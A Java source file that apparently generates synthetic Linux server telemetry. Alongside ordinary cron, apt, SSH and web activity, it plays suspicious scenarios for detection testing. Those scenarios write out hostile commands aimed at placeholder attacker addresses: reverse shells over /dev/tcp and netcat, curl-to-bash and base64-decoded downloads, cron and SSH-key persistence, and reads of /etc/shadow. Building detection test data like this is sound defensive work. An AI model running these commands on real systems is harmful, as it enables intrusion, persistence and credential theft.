package dev.vigil.generator;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/**
 * The Linux activity the generator plays: ordinary server life (cron jobs, systemd timers, apt's
 * daily runs and upgrades through dpkg and maintainer scripts, SSH sessions of administrators and
 * deploy accounts, nginx, gunicorn and PostgreSQL traffic, CI builds) and, at the configured rate,
 * suspicious scenarios that Elastic's Linux rules are written for (reverse shells, {@code curl |
 * bash}, maintainer scripts run outside dpkg, a backdoored package installed with {@code dpkg -i},
 * web-server children, base64-decoded payloads, cron and SSH-key persistence, and more).
 *
 * <p>Every scenario plans its events on a {@link LinuxScript}; ordinary ones are weighted by the
 * host's role so that web servers mostly serve requests and database servers mostly run queries.
 */
final class LinuxScenarios {
  /** Public addresses from the documentation ranges (RFC 5737), used as attacker servers. */
  private static final List<String> ATTACKER_IPS =
      List.of("203.0.113.77", "203.0.113.140", "198.51.100.23", "198.51.100.201", "192.0.2.66");

  /** Public addresses of package mirrors and web clients (documentation-like, not real hosts). */
  private static final List<String> MIRROR_IPS =
      List.of("151.101.2.132", "151.101.66.132", "185.125.190.36", "91.189.91.83");

  private static final List<String> PACKAGES =
      List.of(
          "libssl3",
          "openssl",
          "curl",
          "libcurl4",
          "tzdata",
          "nginx-common",
          "python3.11",
          "libc-bin",
          "systemd",
          "openssh-server",
          "postgresql-client-15",
          "ca-certificates");

  private static final List<String> TOOLS = List.of("jq", "ncdu", "htop", "tree", "rsync", "tmux");

  private LinuxScenarios() {}

  /** Plans one activity on the script's host: ordinary, or one of the suspicious scenarios. */
  static void plan(LinuxScript s, boolean suspicious) {
    if (suspicious) {
      planSuspicious(s);
      return;
    }
    LinuxHost host = s.host;
    int roll = s.pick.below(100);
    // role traffic dominates, as on real servers; the rest is the same on every host
    if (roll < 72) {
      switch (host.role) {
        case WEB -> webRequests(s);
        case DB -> databaseSessions(s);
        case APP -> appRequests(s);
        case BUILD -> {
          if (s.pick.chance(0.3)) {
            buildJob(s);
          } else {
            agentHeartbeat(s);
          }
        }
        case BASTION -> {
          if (s.pick.chance(0.3)) {
            sshSession(s);
          } else {
            sshForwarding(s);
          }
        }
      }
    } else if (roll < 84) {
      cronJob(s);
    } else if (roll < 90) {
      systemdTimer(s);
    } else if (roll < 97) {
      sshSession(s);
    } else {
      aptDaily(s);
    }
  }

  /** The names of the suspicious scenarios, as written in {@code labels.vigil_scenario}. */
  static final List<String> SUSPICIOUS =
      List.of(
          "linux_reverse_shell",
          "linux_curl_pipe_shell",
          "linux_maintainer_script_outside_dpkg",
          "linux_deb_backdoor_install",
          "linux_python_pty_spawn",
          "linux_web_server_shell",
          "linux_base64_payload",
          "linux_tmp_payload",
          "linux_cron_persistence",
          "linux_ssh_key_persistence",
          "linux_shadow_read",
          "linux_netcat_shell");

  private static void planSuspicious(LinuxScript s) {
    switch (s.scenario()) {
      case "linux_reverse_shell" -> reverseShell(s, entryPoint(s));
      case "linux_curl_pipe_shell" -> curlPipeShell(s);
      case "linux_maintainer_script_outside_dpkg" -> maintainerScriptOutsideDpkg(s);
      case "linux_deb_backdoor_install" -> debBackdoorInstall(s);
      case "linux_python_pty_spawn" -> pythonPty(s);
      case "linux_web_server_shell" -> webServerShell(s);
      case "linux_base64_payload" -> base64Payload(s);
      case "linux_tmp_payload" -> tmpPayload(s);
      case "linux_cron_persistence" -> cronPersistence(s);
      case "linux_ssh_key_persistence" -> sshKeyPersistence(s);
      case "linux_shadow_read" -> shadowRead(s);
      case "linux_netcat_shell" -> netcatShell(s);
      default -> throw new IllegalArgumentException("unknown scenario " + s.scenario());
    }
  }

  // ------------------------------------------------------------------ ordinary activity

  private static void cronJob(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess child = s.fork(host.cron);
    s.tick();
    int job = s.pick.below(5);
    LinuxAccount user =
        job == 2 && host.role == LinuxHost.Role.DB ? host.serviceUser : LinuxAccount.ROOT;
    String command =
        switch (job) {
          case 0 -> "cd / && run-parts --report /etc/cron.hourly";
          case 1 -> "command -v debian-sa1 > /dev/null && debian-sa1 1 1";
          case 2 -> "/usr/local/bin/backup.sh --quiet";
          case 3 ->
              "test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew";
          default ->
              "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi";
        };
    LinuxProcess shell =
        s.exec(child.withUser(user, user), "/usr/bin/dash", "/bin/sh", "-c", command);
    s.pause(1, 20);
    switch (job) {
      case 0 -> {
        LinuxProcess parts =
            s.exec(shell, "/usr/bin/run-parts", "run-parts", "--report", "/etc/cron.hourly");
        s.pause(5, 60);
        s.end(parts);
      }
      case 1 -> {
        LinuxProcess sa1 =
            s.run(
                shell,
                "/usr/lib/sysstat/debian-sa1",
                "/bin/sh",
                "/usr/lib/sysstat/debian-sa1",
                "1",
                "1");
        LinuxProcess sadc =
            s.run(
                sa1,
                "/usr/lib/sysstat/sadc",
                "/usr/lib/sysstat/sadc",
                "-F",
                "-L",
                "-S",
                "DISK",
                "1",
                "1",
                "/var/log/sysstat");
        s.pause(5, 200);
        s.modify(sadc, "/var/log/sysstat/sa" + (10 + s.pick.below(20)));
        s.end(sadc);
        s.end(sa1);
        s.end(shell);
      }
      case 2 -> {
        LinuxProcess script =
            s.exec(
                shell,
                "/usr/local/bin/backup.sh",
                "/bin/bash",
                "/usr/local/bin/backup.sh",
                "--quiet");
        String target = "/var/backups/" + host.name + "-" + s.pick.hex(6) + ".tar.gz";
        LinuxProcess tar = s.run(script, "/usr/bin/tar", "tar", "-czf", target, "/etc", "/opt");
        s.pause(200, 3000);
        s.create(tar, target);
        s.end(tar);
        LinuxProcess rsync =
            s.run(
                script, "/usr/bin/rsync", "rsync", "-a", target, "backup@10.0.2.20:/srv/backups/");
        Connection connection = s.connect(rsync, "10.0.2.20", 22);
        s.pause(300, 4000);
        s.disconnect(rsync, connection);
        s.end(rsync);
        s.end(script);
      }
      case 3 -> {
        LinuxProcess certbot =
            s.run(shell, "/usr/bin/certbot", "/usr/bin/python3", "/usr/bin/certbot", "-q", "renew");
        Connection connection = s.connect(certbot, s.pick.of(MIRROR_IPS), 443);
        s.pause(200, 1500);
        s.disconnect(certbot, connection);
        s.end(certbot);
        s.end(shell);
      }
      default -> s.end(shell);
    }
  }

  private static void systemdTimer(LinuxScript s) {
    LinuxHost host = s.host;
    switch (s.pick.below(4)) {
      case 0 -> {
        LinuxProcess logrotate =
            s.newSession(
                host.systemd,
                LinuxAccount.ROOT,
                "init",
                null,
                false,
                "/",
                "/usr/sbin/logrotate",
                "/usr/sbin/logrotate",
                "/etc/logrotate.conf");
        s.pause(5, 50);
        String log =
            s.pick.of(
                "/var/log/syslog",
                "/var/log/auth.log",
                "/var/log/nginx/access.log",
                "/var/log/postgresql/postgresql-15-main.log");
        s.rename(logrotate, log, log + ".1");
        s.create(logrotate, log);
        LinuxProcess gzip = s.run(logrotate, "/usr/bin/gzip", "/bin/gzip", log + ".2");
        s.pause(10, 300);
        s.create(gzip, log + ".2.gz");
        s.delete(gzip, log + ".2");
        s.end(gzip);
        s.end(logrotate);
      }
      case 1 -> {
        LinuxProcess tmpfiles =
            s.newSession(
                host.systemd,
                LinuxAccount.ROOT,
                "init",
                null,
                false,
                "/",
                "/usr/bin/systemd-tmpfiles",
                "systemd-tmpfiles",
                "--clean");
        s.pause(2, 40);
        s.delete(
            tmpfiles,
            "/tmp/systemd-private-" + s.pick.hex(32) + "-chrony.service-" + s.pick.alphanumeric(6));
        s.end(tmpfiles);
      }
      case 2 -> {
        LinuxProcess mandb =
            s.newSession(
                host.systemd,
                new LinuxAccount(6, "man"),
                "init",
                null,
                false,
                "/",
                "/usr/bin/mandb",
                "/usr/bin/mandb",
                "--quiet");
        s.pause(50, 900);
        s.modify(mandb, "/var/cache/man/index.db");
        s.end(mandb);
      }
      default -> {
        LinuxProcess fstrim =
            s.newSession(
                host.systemd,
                LinuxAccount.ROOT,
                "init",
                null,
                false,
                "/",
                "/usr/sbin/fstrim",
                "/sbin/fstrim",
                "--listed-in",
                "/etc/fstab:/proc/self/mountinfo",
                "--verbose",
                "--quiet-unsupported");
        s.pause(100, 2000);
        s.end(fstrim);
      }
    }
  }

  private static void aptDaily(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess daily =
        s.newSession(
            host.systemd,
            LinuxAccount.ROOT,
            "init",
            null,
            false,
            "/",
            "/usr/lib/apt/apt.systemd.daily",
            "/bin/sh",
            "/usr/lib/apt/apt.systemd.daily",
            "update");
    s.pause(10, 200);
    LinuxProcess aptGet = s.run(daily, "/usr/bin/apt-get", "apt-get", "-qq", "-y", "update");
    s.pause(5, 50);
    LinuxProcess http =
        s.run(aptGet, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http")
            .withUser(new LinuxAccount(42, "_apt"), new LinuxAccount(65534, "nogroup"));
    String mirror = s.pick.of(MIRROR_IPS);
    Connection connection = s.connect(http, mirror, 80);
    s.pause(100, 1500);
    String list =
        "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm-updates_main_binary-amd64_Packages.xz";
    s.create(http, "/var/lib/apt/lists/partial/" + list.substring(list.lastIndexOf('/') + 1));
    s.pause(50, 800);
    s.disconnect(http, connection);
    s.end(http);
    s.rename(
        aptGet, "/var/lib/apt/lists/partial/" + list.substring(list.lastIndexOf('/') + 1), list);
    s.end(aptGet);
    if (s.pick.chance(0.5)) {
      LinuxProcess upgrade =
          s.run(
              daily,
              "/usr/bin/unattended-upgrade",
              "/usr/bin/python3",
              "/usr/bin/unattended-upgrade");
      s.pause(500, 4000);
      installPackages(s, upgrade, s.pick.of(PACKAGES), "--unpack");
      s.end(upgrade);
    }
    s.end(daily);
  }

  /** dpkg unpacks a package and runs its maintainer scripts, as apt or unattended-upgrade do. */
  private static void installPackages(LinuxScript s, LinuxProcess parent, String pkg, String mode) {
    String archive =
        "/var/cache/apt/archives/"
            + pkg
            + "_"
            + s.pick.between(1, 9)
            + "."
            + s.pick.between(0, 20)
            + "-1_amd64.deb";
    LinuxProcess dpkg =
        s.run(
            parent,
            "/usr/bin/dpkg",
            "/usr/bin/dpkg",
            "--status-fd",
            "23",
            "--no-triggers",
            mode,
            archive);
    s.pause(20, 300);
    LinuxProcess deb = s.run(dpkg, "/usr/bin/dpkg-deb", "dpkg-deb", "--fsys-tarfile", archive);
    s.pause(5, 80);
    s.end(deb);
    String library = "/usr/lib/x86_64-linux-gnu/" + pkg + ".so." + s.pick.between(1, 3);
    s.create(dpkg, library + ".dpkg-new");
    s.rename(dpkg, library + ".dpkg-new", library);
    s.pause(10, 200);
    String script = "/var/lib/dpkg/info/" + pkg + ":amd64.postinst";
    LinuxProcess postinst =
        s.run(dpkg, script, "/bin/sh", script, "configure", "1." + s.pick.between(0, 9));
    s.pause(10, 500);
    if (s.pick.chance(0.4)) {
      LinuxProcess ldconfig = s.run(postinst, "/usr/sbin/ldconfig", "/sbin/ldconfig");
      s.pause(5, 60);
      s.modify(ldconfig, "/etc/ld.so.cache");
      s.end(ldconfig);
    }
    s.end(postinst);
    s.end(dpkg);
  }

  private static void sshSession(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxAccount user = s.pick.of(host.admins);
    String client = user.id() == 1001 ? "10.0.2.30" : "10.0.9." + s.pick.between(10, 60);
    Connection connection = s.accept(host.sshd, client, 22);
    s.pause(100, 600);
    LinuxProcess privileged = s.fork(host.sshd);
    s.pause(50, 400);
    LinuxProcess shell =
        s.newSession(
            privileged,
            user,
            "sshd",
            client,
            true,
            "/home/" + user.name(),
            "/usr/bin/bash",
            "-bash");
    s.pause(800, 5000);
    int commands = s.pick.between(2, 8);
    for (int i = 0; i < commands; i++) {
      interactiveCommand(s, shell, user);
      s.pause(1500, 25_000);
    }
    s.end(shell);
    s.disconnect(host.sshd, connection);
  }

  private static void interactiveCommand(LinuxScript s, LinuxProcess shell, LinuxAccount user) {
    LinuxHost host = s.host;
    switch (s.pick.below(11)) {
      case 0 ->
          simple(
              s,
              shell,
              "/usr/bin/ls",
              "ls",
              "-la",
              s.pick.of("/var/log", "/etc/nginx/sites-enabled", "/opt", "."));
      case 1 ->
          simple(
              s,
              shell,
              "/usr/bin/tail",
              "tail",
              "-n",
              "200",
              s.pick.of(
                  "/var/log/syslog",
                  "/var/log/nginx/error.log",
                  "/var/log/postgresql/postgresql-15-main.log"));
      case 2 -> simple(s, shell, "/usr/bin/df", "df", "-h");
      case 3 -> simple(s, shell, "/usr/bin/ps", "ps", "aux");
      case 4 -> {
        String file =
            s.pick.of(
                "/etc/nginx/sites-available/shop",
                "/home/" + user.name() + "/notes.txt",
                "/opt/shop/.env");
        LinuxProcess vim = s.runJob(shell, "/usr/bin/vim.basic", "vim", file);
        s.pause(4000, 60_000);
        s.create(vim, file + ".swp");
        s.pause(2000, 30_000);
        s.modify(vim, file);
        s.delete(vim, file + ".swp");
        s.end(vim);
      }
      case 5 -> {
        LinuxProcess sudo =
            s.runJob(
                shell,
                "/usr/bin/sudo",
                "sudo",
                "systemctl",
                "reload",
                s.pick.of("nginx", "postgresql", "shop"));
        s.pause(100, 900);
        LinuxProcess systemctl =
            s.runAs(sudo, LinuxAccount.ROOT, "/usr/bin/systemctl", "systemctl", "reload", "nginx");
        s.pause(20, 400);
        s.end(systemctl);
        s.end(sudo);
      }
      case 6 -> {
        String tool = s.pick.of(TOOLS);
        LinuxProcess sudo = s.runJob(shell, "/usr/bin/sudo", "sudo", "apt", "install", "-y", tool);
        s.pause(100, 900);
        LinuxProcess apt =
            s.runAs(sudo, LinuxAccount.ROOT, "/usr/bin/apt", "apt", "install", "-y", tool);
        s.pause(500, 3000);
        installPackages(s, apt, tool, "--unpack");
        s.end(apt);
        s.end(sudo);
      }
      case 7 -> {
        LinuxProcess git =
            s.runJob(shell, "/usr/bin/git", "git", "-C", "/opt/shop", "pull", "--ff-only");
        LinuxProcess ssh =
            s.run(
                git,
                "/usr/bin/ssh",
                "ssh",
                "-o",
                "SendEnv=GIT_PROTOCOL",
                "git@10.0.2.20",
                "git-upload-pack '/shop.git'");
        Connection connection = s.connect(ssh, "10.0.2.20", 22);
        s.pause(300, 3000);
        s.disconnect(ssh, connection);
        s.end(ssh);
        s.modify(git, "/opt/shop/.git/FETCH_HEAD");
        s.end(git);
      }
      case 8 -> {
        LinuxProcess curl =
            s.runJob(shell, "/usr/bin/curl", "curl", "-s", "http://127.0.0.1:8000/health");
        Connection connection = s.connect(curl, "127.0.0.1", 8000);
        s.pause(5, 120);
        s.disconnect(curl, connection);
        s.end(curl);
      }
      case 9 ->
          simple(
              s,
              shell,
              "/usr/bin/grep",
              "grep",
              "-r",
              "error",
              "/var/log/" + s.pick.of("nginx", "postgresql", "apt"));
      default ->
          simple(
              s,
              shell,
              "/usr/bin/systemctl",
              "systemctl",
              "status",
              s.pick.of("nginx", "postgresql", "shop", "ssh", "cron"));
    }
    if (host.role == LinuxHost.Role.BUILD && s.pick.chance(0.3)) {
      simple(s, shell, "/usr/bin/docker", "docker", "ps");
    }
  }

  private static void simple(LinuxScript s, LinuxProcess shell, String executable, String... args) {
    LinuxProcess process = s.runJob(shell, executable, args);
    s.pause(5, 1500);
    s.end(process);
  }

  private static void webRequests(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess worker = s.pick.of(host.workers);
    String client =
        s.pick.between(11, 223)
            + "."
            + s.pick.below(256)
            + "."
            + s.pick.below(256)
            + "."
            + s.pick.between(1, 254);
    int requests = s.pick.between(2, 8);
    for (int i = 0; i < requests; i++) {
      Connection connection = s.accept(worker, client, 443);
      s.pause(1, 20);
      Connection upstream = s.connect(worker, "10.0.2." + s.pick.between(40, 49), 8000);
      s.pause(5, 300);
      s.disconnect(worker, upstream);
      s.modify(worker, "/var/log/nginx/access.log");
      s.disconnect(worker, connection);
      s.pause(10, 3000);
    }
  }

  private static void appRequests(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess worker = s.pick.of(host.workers);
    Connection connection = s.accept(worker, "10.0.2." + s.pick.between(10, 19), 8000);
    s.pause(1, 30);
    Connection database = s.connect(worker, "10.0.2." + s.pick.between(50, 59), 5432);
    s.pause(2, 200);
    s.disconnect(worker, database);
    if (s.pick.chance(0.1)) {
      s.create(worker, "/opt/shop/media/uploads/" + s.pick.hex(12) + ".jpg");
    }
    s.disconnect(worker, connection);
  }

  private static void databaseSessions(LinuxScript s) {
    LinuxHost host = s.host;
    String client = "10.0.2." + s.pick.between(40, 49);
    Connection connection = s.accept(host.service, client, 5432);
    s.pause(1, 10);
    // most clients use a pool: their backend is already running, only new connections fork one
    boolean pooled = s.pick.chance(0.75);
    LinuxProcess backend = pooled ? host.service : s.fork(host.service);
    s.tick();
    int queries = s.pick.between(2, 8);
    for (int i = 0; i < queries; i++) {
      s.pause(5, 2000);
      s.modify(backend, "/var/lib/postgresql/15/main/base/16384/" + s.pick.between(16385, 17999));
    }
    s.pause(5, 500);
    if (!pooled) {
      s.end(backend);
    }
    s.disconnect(host.service, connection);
  }

  /** The CI agent polls its controller and uploads logs. */
  private static void agentHeartbeat(LinuxScript s) {
    LinuxHost host = s.host;
    Connection connection = s.connect(host.service, "10.0.2.30", 8080);
    s.pause(5, 200);
    s.modify(host.service, "/var/lib/jenkins/remoting/logs/remoting.log.0");
    s.disconnect(host.service, connection);
  }

  /** An administrator's SSH session forwarding a port through the bastion. */
  private static void sshForwarding(LinuxScript s) {
    LinuxHost host = s.host;
    Connection inbound = s.accept(host.sshd, "10.0.9." + s.pick.between(10, 60), 22);
    s.pause(10, 200);
    Connection forwarded =
        s.connect(host.sshd, "10.0.2." + s.pick.between(10, 59), s.pick.of(22, 5432, 8000));
    s.pause(1000, 60_000);
    s.disconnect(host.sshd, forwarded);
    s.disconnect(host.sshd, inbound);
  }

  private static void buildJob(LinuxScript s) {
    LinuxHost host = s.host;
    String workspace =
        "/var/lib/jenkins/workspace/shop-"
            + s.pick.of("main", "release", "pr-" + s.pick.between(100, 999));
    LinuxProcess sh =
        s.run(
            host.service,
            "/usr/bin/dash",
            "sh",
            "-c",
            "git fetch --tags --force --progress -- git@10.0.2.20:shop.git && make -j2 test");
    LinuxProcess git =
        s.run(
            sh,
            "/usr/bin/git",
            "git",
            "fetch",
            "--tags",
            "--force",
            "--progress",
            "--",
            "git@10.0.2.20:shop.git");
    Connection connection = s.connect(git, "10.0.2.20", 22);
    s.pause(300, 4000);
    s.disconnect(git, connection);
    s.end(git);
    LinuxProcess make = s.run(sh, "/usr/bin/make", "make", "-j2", "test");
    int steps = s.pick.between(1, 4);
    for (int i = 0; i < steps; i++) {
      String module = s.pick.of("orders", "payments", "catalog", "users");
      LinuxProcess python =
          s.run(make, "/usr/bin/python3.11", "python3", "-m", "pytest", "-q", "tests/" + module);
      s.pause(500, 8000);
      s.create(python, workspace + "/.pytest_cache/v/cache/" + module);
      s.end(python);
    }
    s.end(make);
    s.end(sh);
  }

  // ------------------------------------------------------------------ suspicious activity

  /** Where an intruder's commands come from: a web or app worker, or an SSH session. */
  private static LinuxProcess entryPoint(LinuxScript s) {
    LinuxHost host = s.host;
    if (!host.workers.isEmpty() && s.pick.chance(0.5)) {
      return s.pick.of(host.workers);
    }
    LinuxAccount user = host.admins.get(1);
    String client = s.pick.of(ATTACKER_IPS);
    s.accept(host.sshd, client, 22);
    s.pause(100, 600);
    LinuxProcess privileged = s.fork(host.sshd);
    s.pause(50, 400);
    LinuxProcess shell =
        s.newSession(
            privileged,
            user,
            "sshd",
            client,
            true,
            "/home/" + user.name(),
            "/usr/bin/bash",
            "-bash");
    s.pause(2000, 9000);
    return shell;
  }

  private static void reverseShell(LinuxScript s, LinuxProcess parent) {
    String attacker = s.pick.of(ATTACKER_IPS);
    int port = s.pick.of(4444, 443, 8443, 9001, 1337);
    LinuxProcess bash =
        s.run(
            parent,
            "/usr/bin/bash",
            "bash",
            "-c",
            "bash -i >& /dev/tcp/" + attacker + "/" + port + " 0>&1");
    s.pause(1, 5);
    Connection connection = s.connect(bash, attacker, port);
    s.tick();
    LinuxProcess interactive = s.exec(bash, "/usr/bin/bash", "bash", "-i");
    s.pause(3000, 20_000);
    for (String[] command :
        List.of(
            new String[] {"/usr/bin/whoami", "whoami"},
            new String[] {"/usr/bin/id", "id"},
            new String[] {"/usr/bin/uname", "uname", "-a"})) {
      LinuxProcess process = s.runJob(interactive, command[0], command);
      s.pause(1, 30);
      s.end(process);
      s.pause(2000, 15_000);
    }
    s.disconnect(interactive, connection);
    s.end(interactive);
  }

  private static void curlPipeShell(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    String url =
        "http://"
            + s.pick.of(ATTACKER_IPS)
            + "/"
            + s.pick.of("install.sh", "setup.sh", "x", "i.sh");
    LinuxProcess sh =
        s.runJob(parent, "/usr/bin/dash", "sh", "-c", "curl -fsSL " + url + " | bash");
    LinuxProcess curl = s.run(sh, "/usr/bin/curl", "curl", "-fsSL", url);
    LinuxProcess bash = s.run(sh, "/usr/bin/bash", "bash");
    Connection connection = s.connect(curl, url.substring(7, url.lastIndexOf('/')), 80);
    s.pause(50, 800);
    s.disconnect(curl, connection);
    s.end(curl);
    s.pause(100, 2000);
    s.create(bash, "/tmp/." + s.pick.alphanumeric(8));
    s.end(bash);
    s.end(sh);
  }

  private static void maintainerScriptOutsideDpkg(LinuxScript s) {
    LinuxHost host = s.host;
    String pkg = s.pick.of("sysstat-helper", "libnss-cache", "gpu-tools", "netutils-extra");
    String script = "/var/lib/dpkg/info/" + pkg + "." + s.pick.of("postinst", "preinst", "prerm");
    LinuxProcess launcher;
    if (s.pick.chance(0.5)) {
      launcher =
          s.newSession(
              host.systemd,
              LinuxAccount.ROOT,
              "init",
              null,
              false,
              "/",
              "/usr/lib/" + pkg + "/sync-agent",
              "/usr/lib/" + pkg + "/sync-agent");
      s.pause(100, 3000);
    } else {
      launcher = entryPoint(s);
    }
    LinuxProcess process = s.run(launcher, script, "/bin/sh", script, "configure");
    s.pause(20, 400);
    LinuxProcess systemctl =
        s.run(process, "/usr/bin/systemctl", "systemctl", "enable", pkg + "-sync.service");
    s.pause(20, 300);
    s.end(systemctl);
    s.end(process);
  }

  private static void debBackdoorInstall(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess shell = entryPoint(s);
    if (!shell.name.equals("bash")) {
      shell = s.run(shell, "/usr/bin/dash", "sh", "-c", "cd /tmp && exec sh");
    }
    String attacker = s.pick.of(ATTACKER_IPS);
    String pkg = s.pick.of("sysstat-helper", "libnss-cache", "gpu-tools", "netutils-extra");
    String archive = "/tmp/" + pkg + "_1." + s.pick.between(0, 9) + "_amd64.deb";
    LinuxProcess curl =
        s.runJob(
            shell,
            "/usr/bin/curl",
            "curl",
            "-fsSL",
            "-o",
            archive,
            "http://" + attacker + ":8080/p/" + pkg + ".deb");
    Connection download = s.connect(curl, attacker, 8080);
    s.pause(200, 2000);
    s.create(curl, archive);
    s.disconnect(curl, download);
    s.end(curl);
    s.pause(10_000, 90_000);
    LinuxProcess sudo = s.runJob(shell, "/usr/bin/sudo", "sudo", "dpkg", "-i", archive);
    s.pause(20, 300);
    LinuxProcess dpkg = s.runAs(sudo, LinuxAccount.ROOT, "/usr/bin/dpkg", "dpkg", "-i", archive);
    s.pause(50, 400);
    String script = "/var/lib/dpkg/info/" + pkg + ".postinst";
    LinuxProcess postinst = s.run(dpkg, script, "/bin/sh", script, "configure", "");
    s.pause(5, 40);
    String payload = "/usr/lib/" + pkg + "/" + s.pick.of("sync", "helper", "agentd");
    String unit = "/etc/systemd/system/" + pkg + ".service";
    s.create(postinst, payload);
    s.create(postinst, unit);
    LinuxProcess enable =
        s.run(postinst, "/usr/bin/systemctl", "systemctl", "enable", "--now", pkg + ".service");
    s.pause(100, 800);
    s.end(enable);
    s.end(postinst);
    s.end(dpkg);
    s.end(sudo);
    LinuxProcess started =
        s.newSession(host.systemd, LinuxAccount.ROOT, "init", null, false, "/", payload, payload);
    s.pause(100, 600);
    reverseShell(s, started);
  }

  private static void pythonPty(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    LinuxProcess python =
        s.run(
            parent, "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn(\"/bin/bash\")");
    s.pause(5, 50);
    LinuxProcess bash = s.run(python, "/usr/bin/bash", "/bin/bash");
    s.pause(2000, 20_000);
    simple(s, bash, "/usr/bin/cat", "cat", "/etc/passwd");
    s.end(bash);
    s.end(python);
  }

  private static void webServerShell(LinuxScript s) {
    LinuxHost host = s.host;
    LinuxProcess worker = host.workers.isEmpty() ? host.service : s.pick.of(host.workers);
    LinuxProcess sh = s.run(worker, "/usr/bin/dash", "sh", "-c", "id;uname -a;cat /etc/passwd");
    for (String[] command :
        List.of(
            new String[] {"/usr/bin/id", "id"},
            new String[] {"/usr/bin/uname", "uname", "-a"},
            new String[] {"/usr/bin/cat", "cat", "/etc/passwd"})) {
      LinuxProcess process = s.run(sh, command[0], command);
      s.pause(1, 10);
      s.end(process);
    }
    s.end(sh);
  }

  private static void base64Payload(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    String encoded =
        Base64.getEncoder()
            .encodeToString(
                ("curl -s http://" + s.pick.of(ATTACKER_IPS) + "/k | sh")
                    .getBytes(StandardCharsets.US_ASCII));
    LinuxProcess sh =
        s.runJob(parent, "/usr/bin/dash", "sh", "-c", "echo " + encoded + " | base64 -d | bash");
    LinuxProcess base64 = s.run(sh, "/usr/bin/base64", "base64", "-d");
    LinuxProcess bash = s.run(sh, "/usr/bin/bash", "bash");
    s.pause(5, 60);
    s.end(base64);
    s.pause(100, 2000);
    s.end(bash);
    s.end(sh);
  }

  private static void tmpPayload(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    String attacker = s.pick.of(ATTACKER_IPS);
    String payload = "/tmp/." + s.pick.alphanumeric(6);
    LinuxProcess wget =
        s.runJob(
            parent,
            "/usr/bin/wget",
            "wget",
            "-q",
            "-O",
            payload,
            "http://" + attacker + "/" + s.pick.alphanumeric(4));
    Connection download = s.connect(wget, attacker, 80);
    s.pause(100, 1500);
    s.create(wget, payload);
    s.disconnect(wget, download);
    s.end(wget);
    simple(s, parent, "/usr/bin/chmod", "chmod", "+x", payload);
    LinuxProcess implant = s.runJob(parent, payload, payload);
    s.pause(50, 500);
    Connection beacon = s.connect(implant, attacker, 443);
    s.pause(5000, 60_000);
    s.disconnect(implant, beacon);
    s.end(implant);
  }

  private static void cronPersistence(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    String file = "/etc/cron.d/" + s.pick.of("sys-update", "php-clean", "apt-compat2");
    LinuxProcess sh =
        s.runJob(
            parent,
            "/usr/bin/bash",
            "bash",
            "-c",
            "echo '*/10 * * * * root curl -s http://"
                + s.pick.of(ATTACKER_IPS)
                + "/u | sh' > "
                + file);
    s.pause(1, 20);
    s.create(sh, file);
    s.end(sh);
  }

  private static void sshKeyPersistence(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    LinuxProcess sh =
        s.runJob(
            parent,
            "/usr/bin/bash",
            "bash",
            "-c",
            "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
                + s.pick.alphanumeric(20)
                + " >> /root/.ssh/authorized_keys");
    s.pause(1, 20);
    s.modify(sh, "/root/.ssh/authorized_keys");
    s.end(sh);
  }

  private static void shadowRead(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    simple(s, parent, "/usr/bin/cat", "cat", "/etc/shadow");
    simple(s, parent, "/usr/bin/cat", "cat", "/etc/passwd");
  }

  private static void netcatShell(LinuxScript s) {
    LinuxProcess parent = entryPoint(s);
    String attacker = s.pick.of(ATTACKER_IPS);
    LinuxProcess nc =
        s.runJob(parent, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", attacker, "4444");
    Connection connection = s.connect(nc, attacker, 4444);
    s.pause(200, 2000);
    LinuxProcess sh = s.run(nc, "/usr/bin/dash", "/bin/sh");
    s.pause(5000, 40_000);
    s.end(sh);
    s.disconnect(nc, connection);
    s.end(nc);
  }
}
